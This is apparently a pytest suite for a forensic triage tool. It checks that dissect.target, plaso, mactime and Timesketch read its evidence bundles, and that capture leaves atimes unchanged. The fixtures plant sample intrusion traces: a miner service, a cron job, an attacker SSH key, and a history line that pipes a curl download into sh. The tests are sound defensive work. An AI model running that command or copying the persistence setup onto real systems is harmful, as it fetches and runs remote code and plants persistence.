"""The analysts' own tools open our evidence directly (issue 15), judged by the real tools:

- dissect.target (target-query, PyPI) on the decrypted tar and on the extracted bundle of a prepared Debian
  tree: the OS, hostname, version, timezone, users and the planted service, cron job, key, history and logins;
- plaso (log2timeline + psort, PyPI) and TSK's mactime (Debian) over a bodyfile of hostile names: no line lost;
- Timesketch's JSONL columns, and one planted event found by time and path;
- capture changes no atime it records: as root (O_NOATIME), and as a normal user on the files it owns.
"""
from __future__ import annotations

import json
import os
import shlex
import shutil
import struct
import subprocess
import sys
import tempfile
from datetime import datetime
from pathlib import Path
from typing import Dict, List

import pytest

from tests.test_hostile_host import AGE, TIMEOUT, capture, kit, mactime_rows, put, remove_tree, team_key

assert team_key  # the fixture, used by name below
BIN = Path(sys.executable).parent
OLD = 978307200  # 2001-01-01T00:00:00Z: an atime any read would move (relatime moves one older than a day)
PLANTED_MTIME_NS = 1767323045123456000  # 2026-01-02T03:04:05.123456Z
UTMP = "<hhi32s4s32s256shhiii4i20s"  # glibc's struct utmp on x86_64 and aarch64 (384 bytes)
LOGIN_AT = 1795000000  # 2026-11-18T11:06:40Z
TIMESKETCH_REQUIRED = ("message", "datetime", "timestamp_desc")  # Timesketch's mandatory CSV/JSONL columns


@pytest.fixture
def out_dir():
    """Output on its own tmpfs (the responder's medium), writable by everyone (the normal-user capture)."""
    path = Path(tempfile.mkdtemp(prefix="bk-analyst-out-", dir="/tmp"))
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2g,mode=1777", "tmpfs", str(path)], check=True, timeout=30)
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=True, timeout=30)
        path.rmdir()


def utmp_record(kind: int, pid: int, line: str, user: str, host: str, seconds: int) -> bytes:
    return struct.pack(UTMP, kind, 0, pid, line.encode(), line[-4:].encode(), user.encode(), host.encode(), 0, 0,
                       0, seconds, 0, 0, 0, 0, 0, b"")


@pytest.fixture
def debian(tmp_path):
    """A prepared Debian 13 tree with a known host name, zone, users, and an intrusion's traces."""
    root = tmp_path / "debian"
    put(root, "/usr/lib/os-release", b'PRETTY_NAME="Debian GNU/Linux 13 (trixie)"\nNAME="Debian GNU/Linux"\n'
                                     b'VERSION_ID="13"\nVERSION="13 (trixie)"\nVERSION_CODENAME=trixie\nID=debian\n')
    put(root, "/etc/hostname", b"bk-analyst-host\n")
    os.symlink("../usr/lib/os-release", str(root / "etc/os-release"))  # as Debian ships it
    put(root, "/etc/debian_version", b"13.2\n")
    put(root, "/etc/timezone", b"Europe/Amsterdam\n")
    put(root, "/usr/share/zoneinfo/Europe/Amsterdam", Path("/usr/share/zoneinfo/Europe/Amsterdam").read_bytes())
    os.symlink("/usr/share/zoneinfo/Europe/Amsterdam", str(root / "etc/localtime"))
    put(root, "/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
                             b"bookgen:x:999:999::/opt/bookgen:/usr/sbin/nologin\n")
    put(root, "/etc/group", b"root:x:0:\nalice:x:1000:\nbookgen:x:999:\n")
    put(root, "/etc/systemd/system/bk-miner.service",
        b"[Unit]\nDescription=update helper\n[Service]\nExecStart=/tmp/.x/miner --pool 203.0.113.9:3333\n"
        b"[Install]\nWantedBy=multi-user.target\n")
    (root / "etc/systemd/system/multi-user.target.wants").mkdir()
    os.symlink("/etc/systemd/system/bk-miner.service",
               str(root / "etc/systemd/system/multi-user.target.wants/bk-miner.service"))
    put(root, "/etc/crontab", b"SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/update.sh\n")
    key = tmp_path / "attacker"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "attacker@evil", "-f", str(key)],
                   check=True, timeout=60)
    put(root, "/root/.ssh/authorized_keys", (tmp_path / "attacker.pub").read_bytes(), 0o600)
    put(root, "/home/alice/.bash_history", b"ls\ncurl -s http://203.0.113.9/x.sh | sh\n", 0o600)
    put(root, "/var/log/auth.log", b"Nov 18 08:46:40 bk-analyst-host sshd[4242]: Accepted publickey for alice "
                                   b"from 198.51.100.23 port 50522 ssh2: ED25519 SHA256:abc\n", 0o640)
    put(root, "/var/log/wtmp", utmp_record(7, 4242, "pts/0", "alice", "198.51.100.23", LOGIN_AT), 0o664)
    put(root, "/tmp/.x/update.sh", b"#!/bin/sh\n/tmp/.x/miner &\n", 0o755)
    os.utime(str(root / "tmp/.x/update.sh"), ns=(PLANTED_MTIME_NS, PLANTED_MTIME_NS))
    try:
        yield root
    finally:
        remove_tree(root)


def decrypted_tar(result, identity: Path, into: Path) -> Path:
    plain = subprocess.run([AGE, "-d", "-i", str(identity), str(result.payload)], capture_output=True, check=True,
                           timeout=TIMEOUT).stdout
    tar = into / "bundle.tar"
    tar.write_bytes(subprocess.run(["zstd", "-d", "-c"], input=plain, capture_output=True, check=True,
                                   timeout=TIMEOUT).stdout)
    return tar


def target_query(target: Path, functions: str, records: bool = True):
    argv = [str(BIN / "target-query"), "-f", functions] + (["-j"] if records else []) + [str(target)]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    if not records:
        return done.stdout
    return [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]


def test_dissect_target_reads_the_tar_and_the_extracted_bundle(debian, out_dir, team_key, tmp_path):
    result = capture(debian, out_dir, team_key, "--profile", "triage", env={"DOCKER_HOST": "unix:///nonexistent"})
    tar = decrypted_tar(result, team_key[0], tmp_path)
    extracted = tmp_path / "extracted"
    done = kit("--json", "extract", "-i", str(team_key[0]), str(result.payload), "--to", str(extracted))
    assert done.returncode == 0, done.stderr[-2000:]
    for target in (tar, extracted):
        info = subprocess.run([str(BIN / "target-info"), str(target)], capture_output=True, text=True, timeout=600)
        assert info.returncode == 0, info.stderr[-2000:]
        facts = dict(line.split(":", 1) for line in info.stdout.splitlines() if " : " in line)
        facts = {k.strip(): v.strip() for k, v in facts.items()}
        assert facts["Hostname"] == "bk-analyst-host", (target, facts)
        assert facts["Os family"] == "linux" and facts["Os version"] == "Debian GNU/Linux 13 (trixie)", facts
        assert facts["Timezone"] == "Europe/Amsterdam", facts
        values = target_query(target, "hostname,os,version", records=False)
        assert "bk-analyst-host linux Debian GNU/Linux 13 (trixie)" in values, values
        rows = target_query(target, "users,cronjobs,commandhistory,ssh.authorized_keys,services,authlog,wtmp")
        by_type: Dict[str, List[dict]] = {}
        for row in rows:
            if row.get("_type") == "record":
                by_type.setdefault(row["_recorddescriptor"][0], []).append(row)
        assert {r["name"] for r in by_type["unix/user"]} == {"root", "alice", "bookgen"}, target
        assert any(r["command"] == "root /tmp/.x/update.sh" and r["minute"] == "*/5"
                   for r in by_type["unix/cronjob"])
        assert any(r["command"] == "curl -s http://203.0.113.9/x.sh | sh" and r["username"] == "alice"
                   for r in by_type["unix/history"])
        assert any(r["comment"] == "attacker@evil" and r["username"] == "root"
                   for r in by_type["application/openssh/authorized_keys"])
        service = next(r for r in by_type["linux/service"] if r["name"] == "bk-miner.service")
        assert service["Service_ExecStart"] == "/tmp/.x/miner --pool 203.0.113.9:3333"
        login = next(r for r in by_type["linux/log/auth"] if r.get("user") == "alice")
        assert login["remote_ip"] == "198.51.100.23" and login["port"] == 50522
        wtmp = next(r for r in by_type["linux/log/wtmp"] if r.get("ut_user") == "alice")
        assert wtmp["ut_host"] == "198.51.100.23", wtmp
        assert datetime.fromisoformat(wtmp["ts"]).timestamp() == LOGIN_AT, wtmp


HOSTILE = (b"new\nline.sh", b"pipe|name.sh", b"bad\xff\xfeutf8.sh", b"pct%7Cname.sh", b"cr\rname.sh",
           b"\xc3(\nmix|%0A.sh", b"esc\x1b[2Jname.sh", b"trailing-newline\n", b"fake|0|1|r-r|0|0|0|0|0|0|0",
           b"sep\xe2\x80\xa8line.sh", b"caf\xc3\xa9.sh", b"\xff")


def test_plaso_and_mactime_read_every_line_of_the_bodyfile(debian, out_dir, team_key, tmp_path):
    odd = os.fsencode(str(debian / "tmp")) + b"/dir\n|\xff"
    os.makedirs(odd)
    for name in HOSTILE:
        for directory in (os.fsencode(str(debian / "tmp")), odd):
            with open(os.path.join(directory, name), "wb") as handle:
                handle.write(b"#!/bin/sh\n")
    result = capture(debian, out_dir, team_key, "--only", "timeline", codes=(0,))
    body = result.bodyfile()
    body.decode("utf-8")  # valid UTF-8 throughout
    lines = body.split(b"\n")[:-1]
    assert len(lines) > 2 * len(HOSTILE)
    bodyfile = tmp_path / "bodyfile.txt"
    bodyfile.write_bytes(body)
    storage = tmp_path / "timeline.plaso"
    done = subprocess.run([str(BIN / "log2timeline"), "--quiet", "--status_view", "none", "--parsers", "bodyfile",
                           "--storage_file", str(storage), str(bodyfile)], capture_output=True, text=True,
                          timeout=900)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    events = tmp_path / "events.jsonl"
    done = subprocess.run([str(BIN / "psort"), "--status_view", "none", "-o", "json_line", "-w", str(events),
                           str(storage)], capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    parsed = [json.loads(line) for line in events.read_text().splitlines()]
    entries = {(int(event["inode"]), event["filename"]) for event in parsed if event.get("parser") == "bodyfile"}
    assert len(entries) == len(lines), "plaso read %d of %d lines" % (len(entries), len(lines))
    assert {inode for inode, _ in entries} == {int(line.split(b"|")[2]) for line in lines}
    assert {name for _, name in entries} == {line.split(b"|")[1].decode() for line in lines}
    # mactime agrees: every line in its timeline, read without a complaint
    rows = set(mactime_rows(body, tmp_path))
    assert len(rows) == len(lines), (len(rows), len(lines))


def test_timeline_jsonl_is_what_timesketch_imports(debian, out_dir, team_key):
    result = capture(debian, out_dir, team_key, "--only", "system", "--only", "timeline", codes=(0,))
    assert "timeline/timeline.jsonl" in result.artifacts
    events = [json.loads(line) for line in result.data("timeline/timeline.jsonl").decode("utf-8").splitlines()]
    assert events
    for event in events:
        for column in TIMESKETCH_REQUIRED:
            assert isinstance(event.get(column), str) and event[column], (column, event)
        moment = datetime.fromisoformat(event["datetime"].replace("Z", "+00:00"))
        assert moment.tzinfo is not None and event["timestamp"] == int(round(moment.timestamp() * 1e6)), event
    planted = [e for e in events if e.get("path") == "/tmp/.x/update.sh"
               and e["datetime"] == "2026-01-02T03:04:05.123456Z"]
    assert len(planted) == 1 and "Content Modification Time" in planted[0]["timestamp_desc"], planted
    assert planted[0]["timestamp"] == PLANTED_MTIME_NS // 1000 and planted[0]["macb"].startswith("m")
    login = [e for e in events if e["timestamp_desc"] == "Login Time" and e.get("user") == "alice"]
    assert len(login) == 1 and login[0]["host"] == "198.51.100.23", login
    assert login[0]["datetime"] == "2026-11-18T11:06:40.000000Z"
    # every walked name is in it, as in the bodyfile
    walked = {line.split(b"|")[1].decode() for line in result.bodyfile().split(b"\n")[:-1]}
    assert walked == {e["path"] for e in events if e["data_type"] == "bookgen-kit:fs:stat"}


# -- capture changes no atime it records -------------------------------------------------------------------------
IDENTITY = ("passwd", "group", "hosts", "hostname", "nsswitch.conf")


def _age_atimes(paths: List[Path]) -> Dict[Path, int]:
    """Each file's atime set back to 2001 (its mtime kept, as `touch -a -d` does)."""
    for path in paths:
        info = os.lstat(str(path))
        os.utime(str(path), ns=(OLD * 10 ** 9, info.st_mtime_ns), follow_symlinks=False)
    return {path: os.lstat(str(path)).st_atime_ns for path in paths}


def _files_under(root: Path) -> List[Path]:
    """Every file and directory below root, root included (listed before the atimes are set: a listing reads)."""
    found = [root]
    for directory, subdirectories, names in os.walk(str(root)):
        found += [Path(directory) / n for n in subdirectories + names]
    return found


@pytest.fixture
def live_tree():
    """A tree in the live /tmp (walked by the timeline) and copies of /etc's identity files to bind over /etc."""
    path = Path(tempfile.mkdtemp(prefix="bk-atime-", dir="/tmp"))
    try:
        for name in IDENTITY:
            source = Path("/etc") / name
            put(path, "/etc/" + name, source.read_bytes() if source.exists() else b"")
        put(path, "/app/.env", b"DATABASE_PASSWORD=not-in-this-test\n", 0o600)
        put(path, "/logs/api.log", b"GET /health 200\n")
        put(path, "/home/.bash_history", b"ls\n", 0o600)
        put(path, "/drop/run.sh", b"#!/bin/sh\n", 0o755)
        yield path
    finally:
        remove_tree(path)


def _capture_live(pyz: Path, tree: Path, out: Path, recipient: str, as_user: bool) -> subprocess.CompletedProcess:
    """The pyz, run as a responder would (./bookgen-kit.pyz), live, in a private mount namespace whose /etc
    identity files are the tree's copies (so their atimes are ours to watch), as root or as nobody."""
    q = shlex.quote
    binds = "\n".join("mount --bind %s /etc/%s" % (q(str(tree / "etc" / name)), name) for name in IDENTITY
                      if Path("/etc", name).exists())
    # setuid by system calls only: setpriv, su and runuser look the user up in /etc/passwd, whose atime is watched
    drop = ("/usr/bin/python3 -I -S -c 'import os, sys; os.setgroups([]); os.setgid(65534); os.setuid(65534); "
            "os.execv(sys.argv[1], sys.argv[1:])' ") if as_user else ""
    command = "%s%s --json capture --out %s -r %s --profile triage --include %s --case atime" % (
        drop, q(str(pyz)), q(str(out)), q(recipient), q(str(tree)))
    return subprocess.run(["unshare", "--mount", "--propagation", "private", "--", "sh", "-ec",
                           binds + "\nexec " + command], capture_output=True, text=True, timeout=900,
                          env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/nonexistent",
                               "DOCKER_HOST": "unix:///nonexistent"}, stdin=subprocess.DEVNULL)


def _timeline_atimes(out: Path, identity: Path, done: subprocess.CompletedProcess, tmp: Path) -> Dict[str, int]:
    payload = json.loads(done.stdout)["payload"]
    plain = subprocess.run([AGE, "-d", "-i", str(identity), payload], capture_output=True, check=True,
                           timeout=TIMEOUT).stdout
    tar = subprocess.run(["zstd", "-d", "-c"], input=plain, capture_output=True, check=True, timeout=TIMEOUT).stdout
    body = subprocess.run(["tar", "-xO", "-f", "-", "--wildcards", "timeline/bodyfile.txt*"], input=tar,
                          capture_output=True, check=True, timeout=TIMEOUT).stdout
    inner = json.loads(subprocess.run(["tar", "-xO", "-f", "-", "manifest.json"], input=tar, capture_output=True,
                                      check=True, timeout=TIMEOUT).stdout)
    jsonl = subprocess.run(["tar", "-xO", "-f", "-", "--wildcards", "timeline/timeline.jsonl*"], input=tar,
                           capture_output=True, check=True, timeout=TIMEOUT).stdout
    atimes = {}
    for line in body.split(b"\n")[:-1]:
        fields = line.split(b"|")
        atimes[fields[1].decode()] = int(fields[7])
    accessed = {}
    for line in jsonl.decode().splitlines():
        event = json.loads(line)
        if "Last Access Time" in event["timestamp_desc"] and "path" in event:
            accessed[event["path"]] = event["timestamp"]
    return {"bodyfile": atimes, "jsonl": accessed,
            "artifacts": {a["source"]: a for a in inner["artifacts"] if a.get("source")}}


def test_capture_changes_no_atime_as_root(pyz, live_tree, out_dir, team_key, tmp_path):
    files = _files_under(live_tree)
    control = live_tree / "control"
    control.write_bytes(b"read by cat\n")
    before = _age_atimes(files + [control])
    subprocess.run(["cat", str(control)], check=True, capture_output=True)
    assert os.stat(str(control)).st_atime_ns != before[control], "this filesystem does not record reads"
    done = _capture_live(pyz, live_tree, out_dir, team_key[1], as_user=False)
    assert done.returncode in (0, 6), done.stderr[-3000:]
    after = {path: os.lstat(str(path)).st_atime_ns for path in files}
    changed = [str(p) for p in files if after[p] != before[p]]
    assert not changed, changed  # /etc's identity files included: no name-service lookup, no plain read
    seen = _timeline_atimes(out_dir, team_key[0], done, tmp_path)
    for path in files:
        assert seen["bodyfile"][str(path)] == OLD, path  # the timeline records the atime from before us
    assert seen["jsonl"][str(live_tree / "logs/api.log")] == OLD * 10 ** 6  # and so does timeline.jsonl
    for name in ("app/.env", "logs/api.log", "home/.bash_history", "drop/run.sh"):
        entry = seen["artifacts"][str(live_tree / name)]
        assert "O_NOATIME" in entry["method"] and "no O_NOATIME" not in entry["method"], entry
        assert entry["atime"].startswith("2001-01-01T00:00:00"), entry
    for name in IDENTITY:
        if Path("/etc", name).exists():  # bound over /etc in the capture's namespace
            assert "no O_NOATIME" not in seen["artifacts"]["/etc/" + name]["method"], name


def test_capture_as_a_normal_user_changes_no_atime_of_what_it_owns(pyz, live_tree, out_dir, team_key, tmp_path):
    """O_NOATIME is refused to a process that does not own the file (EPERM): such a file is read plainly,
    its atime may move, and its manifest entry says so. Files the user owns keep their atime."""
    os.chmod(str(live_tree), 0o755)
    owned = [p for p in _files_under(live_tree) if not str(p).startswith(str(live_tree / "etc"))]
    for path in owned:
        os.chown(str(path), 65534, 65534)
    not_owned = [live_tree / "etc" / name for name in IDENTITY]
    runnable = out_dir / "bookgen-kit.pyz"  # on the medium: the session's build dir is private to root
    shutil.copyfile(str(pyz), str(runnable))
    os.chmod(str(runnable), 0o755)
    before = _age_atimes(owned + not_owned)
    done = _capture_live(runnable, live_tree, out_dir, team_key[1], as_user=True)
    assert done.returncode == 6, done.stderr[-3000:]  # as a normal user some sources are unreadable
    changed = [str(p) for p in owned if os.lstat(str(p)).st_atime_ns != before[p]]
    assert not changed, changed
    seen = _timeline_atimes(out_dir, team_key[0], done, tmp_path)
    for path in owned:
        assert seen["bodyfile"][str(path)] == OLD, path
    passwd = seen["artifacts"]["/etc/passwd"]
    assert "no O_NOATIME permission: the atime may change" in passwd["method"], passwd
    assert os.lstat(str(live_tree / "etc/passwd")).st_atime_ns != before[live_tree / "etc/passwd"]  # it did
    # ...but the manifest and the timeline keep the atime from before the capture's first read
    assert passwd["atime"].startswith("2001-01-01T00:00:00"), passwd
    assert seen["bodyfile"]["/etc/passwd"] == OLD
